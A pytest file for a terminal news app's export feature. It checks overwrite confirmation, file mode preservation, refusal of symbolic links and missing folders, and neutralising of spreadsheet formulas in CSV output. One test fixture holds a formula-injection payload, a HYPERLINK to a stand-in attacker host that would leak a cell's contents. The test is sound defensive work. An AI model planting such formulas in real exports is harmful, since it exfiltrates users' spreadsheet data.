"""Pilot tests of `e` on files that exist: asking before replacing, keeping the mode, refusing
symbolic links and missing folders, and CSV cells a spreadsheet would run as formulas.

The file name is typed with `pilot.press`, as a user types it."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import polars as pl
import pytest

from tests.tui.corpus import ROWS, make_app, ready, settle, wait_for
from tui.app import NewsdeskApp, create_app
from tui.screens.export import ExportScreen

pytestmark = pytest.mark.asyncio

SIZE = (120, 40)
NOTES = "# My notes\n\nNothing here may be lost.\n"


async def type_name(pilot, app: NewsdeskApp, name: str) -> ExportScreen:
    """Press e, clear the suggested name (ctrl+u), type `name` and press enter."""
    await pilot.press("e")
    await wait_for(pilot, lambda: isinstance(app.screen, ExportScreen), what="export prompt")
    screen = app.screen
    assert isinstance(screen, ExportScreen)
    await pilot.press("end", "ctrl+u", *name)
    await pilot.press("enter")
    await settle(pilot)
    return screen


def private_notes(directory: Path) -> Path:
    notes = directory / "notes.md"
    notes.write_text(NOTES, encoding="utf-8")
    notes.chmod(0o600)
    return notes


async def test_an_existing_file_is_replaced_only_after_a_second_enter_and_keeps_its_mode(tmp_path: Path) -> None:
    notes = private_notes(tmp_path)
    async with make_app(tmp_path).run_test(size=SIZE) as pilot:
        app = await ready(pilot)
        screen = await type_name(pilot, app, "notes.md")
        assert screen.error_text == "notes.md exists: press enter again to replace it, escape to cancel"
        assert app.screen is screen and notes.read_text(encoding="utf-8") == NOTES
        await pilot.press("enter")
        await wait_for(pilot, lambda: app.screen is not screen, what="the export written")
        await settle(pilot)
    text = notes.read_text(encoding="utf-8")
    assert text.startswith("| title | section |") and ROWS[0]["title"] in text
    assert stat.S_IMODE(notes.stat().st_mode) == 0o600
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".tmp-")] == []


async def test_escape_or_another_name_after_the_question_keeps_the_file(tmp_path: Path) -> None:
    notes = private_notes(tmp_path)
    async with make_app(tmp_path).run_test(size=SIZE) as pilot:
        app = await ready(pilot)
        screen = await type_name(pilot, app, "notes.md")
        assert "exists" in screen.error_text
        await pilot.press("backspace", "d")  # the same name typed again: asked again, not replaced
        assert screen.error_text == ""
        await pilot.press("enter")
        await settle(pilot)
        assert "exists" in screen.error_text and notes.read_text(encoding="utf-8") == NOTES
        await pilot.press("escape")
        await wait_for(pilot, lambda: app.screen is not screen, what="the prompt closed")
    assert notes.read_text(encoding="utf-8") == NOTES
    assert stat.S_IMODE(notes.stat().st_mode) == 0o600


async def test_a_symbolic_link_is_refused_and_its_file_untouched(tmp_path: Path) -> None:
    notes = private_notes(tmp_path)
    (tmp_path / "link.md").symlink_to(notes)
    async with make_app(tmp_path).run_test(size=SIZE) as pilot:
        app = await ready(pilot)
        screen = await type_name(pilot, app, "link.md")
        assert "is a symbolic link" in screen.error_text
        await pilot.press("enter")  # no second-enter override for a link
        await settle(pilot)
        assert "is a symbolic link" in screen.error_text and app.screen is screen
    assert (tmp_path / "link.md").is_symlink() and notes.read_text(encoding="utf-8") == NOTES


async def test_a_missing_folder_is_refused_not_created(tmp_path: Path) -> None:
    async with make_app(tmp_path).run_test(size=SIZE) as pilot:
        app = await ready(pilot)
        screen = await type_name(pilot, app, "reports/2026/view.csv")
        assert screen.error_text == f"The folder does not exist: {tmp_path / 'reports' / '2026'} (create it first)."
        assert app.screen is screen and app.is_running
    assert not (tmp_path / "reports").exists()


FORMULAS = {
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click for the full story\")": "Body one with enough words to count.",
    "+1 555 0100 is the new hotline": "Body two.",
    "-5 degrees in Moscow tonight": "Body three.",
    "@channel the vote is today": "Body four.",
}


def formula_corpus(directory: Path) -> Path:
    root = directory / "corpus"
    root.mkdir()
    rows = [{"title": title, "body": body, "section": "=1+1"} for title, body in FORMULAS.items()]
    rows.append({"title": "A plain headline", "body": "Plain body.", "section": "World"})
    (root / "articles.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    return root


async def test_csv_export_neutralises_formulas(tmp_path: Path) -> None:
    app = create_app([formula_corpus(tmp_path)], index=False, export_dir=tmp_path)
    async with app.run_test(size=SIZE) as pilot:
        await wait_for(pilot, lambda: app.article_list.row_count == len(FORMULAS) + 1, timeout=20, what="the corpus")
        screen = await type_name(pilot, app, "view.csv")
        await wait_for(pilot, lambda: app.screen is not screen, what="the export written")
    frame = pl.read_csv(tmp_path / "view.csv")
    titles = set(frame.get_column("title"))
    assert titles == {"'" + title for title in FORMULAS} | {"A plain headline"}
    assert set(frame.get_column("section")) == {"'=1+1", "World"}
    assert set(frame.get_column("body")) == set(FORMULAS.values()) | {"Plain body."}
    assert os.listdir(tmp_path).count("view.csv") == 1
